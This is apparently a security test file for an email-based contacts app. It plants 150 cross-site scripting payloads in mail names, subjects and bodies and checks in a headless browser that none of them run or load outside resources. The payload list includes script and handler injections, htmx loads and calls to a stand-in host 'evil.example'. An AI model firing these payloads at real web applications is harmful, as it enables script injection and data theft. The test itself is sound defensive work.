"""What strangers write stays text: 150 payloads in every field that is read in, on every page, with the policy switched off."""

import mailbox
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from email.utils import format_datetime, formataddr
from pathlib import Path
from urllib.parse import quote

import pytest

from amity.screens import cli
from amity.screens.web.app import menu
from browser import chromium, serving

pytestmark = pytest.mark.slow

ME = "robin@hale.example.org"
DAY = datetime(2026, 3, 1, 12, tzinfo=UTC)
SCRIPTS = ["alert(1)", "fetch('https://evil.example/')", "top.hit=1", "alert`1`", "location='//evil.example'"]
WRAPPERS = [
    "<script>{}</script>", "<img src=x onerror={}>", '"><svg onload={}>', "'><svg/onload={}>", "<body onload={}>",
    "</title><script>{}</script>", "</textarea><script>{}</script>", "</style><script>{}</script>", "--><script>{}</script>",
    '" onfocus={} autofocus="', "' onmouseover={} x='", "javascript:{}", "<a href=javascript:{}>x</a>", "<iframe srcdoc='<script>{}</script>'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>", "<svg><animate onbegin={} attributeName=x>",
    "<details open ontoggle={}>", "<input autofocus onfocus={}>", "<object data=javascript:{}>", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=//evil.example/><script>{}</script>", "{{{{ {} }}}}", "{{% if {} %}}", "${{{}}}", "<div hx-get=//evil.example hx-trigger=load>{}</div>",
    "<div hx-on:load={}>x</div>", "\u202e<script>{}</script>", "\x1b]8;;//evil.example\x07{}\x1b]8;;\x07", "&lt;script&gt;{}&lt;/script&gt;",
    "<link rel=stylesheet href=//evil.example/{}>",
]  # fmt: skip
PAYLOADS = [wrapper.format(script) for wrapper in WRAPPERS for script in SCRIPTS]
BUSY = 10  # people with whom much passed, and all payloads in what passed
STRAY = """() => {
  const ours = document.querySelectorAll('head > script, head > link, head > meta, head > title').length;
  const there = document.querySelectorAll('script, link, meta, title:not(svg title), base, style').length;
  const bad = [...document.querySelectorAll('main *, dialog *')].filter((one) =>
    ['SCRIPT', 'IMG', 'IFRAME', 'OBJECT', 'EMBED', 'STYLE', 'LINK', 'META', 'BASE', 'MATH'].includes(one.tagName) ||
    [...one.attributes].some((each) => /^(on|hx-on)/i.test(each.name) || /^\\s*javascript:/i.test(each.value) && each.name === 'href') ||
    (one.tagName === 'A' && one.origin !== location.origin));
  return [there - ours, bad.length, window.hit || 0];
}"""


def test_there_are_a_hundred_and_fifty() -> None:
    assert len(set(PAYLOADS)) == 150


def letter(
    box: mailbox.mbox, writer: tuple[str, str], reader: tuple[str, str], number: int, subject: str, text: str
) -> str:
    one = EmailMessage()
    one["From"], one["To"] = formataddr(writer, "utf-8"), formataddr(reader, "utf-8")
    one["Date"] = format_datetime(DAY - timedelta(days=number % 300, minutes=number))
    one["Subject"] = " ".join("".join(sign for sign in subject if sign.isprintable()).split())
    one["Message-ID"] = f"<{number}@example.org>"
    one.set_content(text, cte="base64")
    box.add(one)
    return one["Message-ID"]


def amity(*words: object) -> int:
    return cli.run([str(word) for word in words])


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A record in which every name, subject and letter is meant to break out."""
    folder = tmp_path_factory.mktemp("hostile")
    box = mailbox.mbox(folder / "in.mbox")
    me = ("Robin Hale", ME)
    number = 0
    for at, payload in enumerate(PAYLOADS):
        them = ("".join(sign for sign in payload if sign.isprintable()), f"p{at}@example.net")
        for turn in range(2 if at >= BUSY else 30):
            number += 1
            words = payload if at >= BUSY else f"Could you send me this? {PAYLOADS[(turn * BUSY + at) // 2 % 150]} " * 3
            writer, reader = (them, me) if turn % 2 else (me, them)
            letter(box, writer, reader, number, PAYLOADS[(turn * BUSY + at) % 150], f"I will send it tomorrow. {words}")
    box.flush()
    box.close()
    home = folder / "home"
    assert amity("import", folder / "in.mbox", "--home", home, "--yes") in (0, 3)
    amity("me", ME, "--home", home)
    for at in range(BUSY):
        assert amity("note", f"p{at}@example.net", PAYLOADS[at * 15], "--home", home) == 0
        assert amity("circle", f"p{at}@example.net", "close", "--home", home) == 0
    return home


def test_nothing_that_anybody_wrote_runs_or_loads(hostile: Path) -> None:
    """With `bypass_csp` it is the pages themselves that hold, and not the policy behind them."""
    people = [f"/person/{quote(f'mail:p{at}@example.net', safe='')}" for at in range(BUSY)]
    paths = [
        *(one.path for one in menu()), "/people?standing=unknown", "/people/one", "/begin", "/owed?all=1", "/undo",
        *people, *(f"{one}?from=10" for one in people), "/messages?ids=" + ",".join(map(str, range(1, 25))),
        "/forget?who=mail:p3@example.net", *(f"/people?q={quote(one)}" for one in PAYLOADS[::15]),
        *(f"/find?q={quote(one)}" for one in PAYLOADS[::30]), f"/{quote(PAYLOADS[0])}", f"/person/{quote(PAYLOADS[1], safe='')}",
    ]  # fmt: skip
    with serving(hostile) as address, chromium() as browser:
        origin = address.partition("/open")[0]
        context = browser.new_context(bypass_csp=True)
        page = context.new_page()
        asked, ran = [], []
        context.on("request", lambda one: asked.append(one.url))
        page.on("dialog", lambda one: (ran.append(one.message), one.dismiss()))
        page.goto(address)
        seen = 0
        for path in paths:
            page.goto(origin + path)
            seen += page.content().count("alert")
            if not path.startswith("/find"):
                assert page.evaluate(STRAY) == [0, 0, 0], path
        assert seen > 150  # the payloads are there, as text
        assert ran == []
        assert [one for one in asked if not one.startswith(origin)] == []
        context.close()
